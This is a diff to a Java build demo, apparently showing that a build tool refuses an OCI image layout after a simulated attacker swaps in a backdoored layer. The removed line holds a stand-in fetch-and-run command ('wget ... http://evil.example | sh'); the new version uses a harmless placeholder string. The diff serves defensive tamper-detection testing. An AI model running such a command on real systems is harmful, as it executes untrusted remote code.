@@ -113,22 +113,22 @@ final class BuildDemo {
     return true;
   }
 
-  /** The attacker swaps the hello image's layer blob in the layout for a backdoored one. */
+  /** The attacker swaps the kernel image's layer blob in the layout for a backdoored kernel. */
   private int tamperLayer() throws Exception {
     OciLayout layout = OciLayout.open(layoutDir);
-    Descriptor d = layout.lookup(DemoImages.HELLO).orElseThrow();
-    Path blob = layerBlob(layout, DemoImages.HELLO, d);
+    Descriptor d = layout.lookup(DemoImages.KERNEL).orElseThrow();
+    Path blob = layerBlob(layout, DemoImages.KERNEL, d);
     OciLayout scratch = OciLayout.open(work.resolve("attacker"));
     Descriptor evil =
-        DemoImages.hello(scratch, "wget -qO- http://evil.example | sh")
+        DemoImages.kernel(scratch, "a backdoored kernel")
             .platform(Platform.LINUX_AMD64)
             .writeManifest();
-    Path evilLayer = layerBlob(scratch, "attacker.example/hello:x", evil);
+    Path evilLayer = layerBlob(scratch, "attacker.example/kernel:x", evil);
     Files.delete(blob);
     Files.copy(evilLayer, blob);
     out.printf(
-        "%n9. an attacker replaced the layer of %s in the layout with a backdoored one%n",
-        DemoImages.HELLO);
+        "%n9. an attacker replaced the layer of %s in the layout with a backdoored kernel%n",
+        DemoImages.KERNEL);
     return refused(yaml, work.resolve("out-tampered"));
   }
 
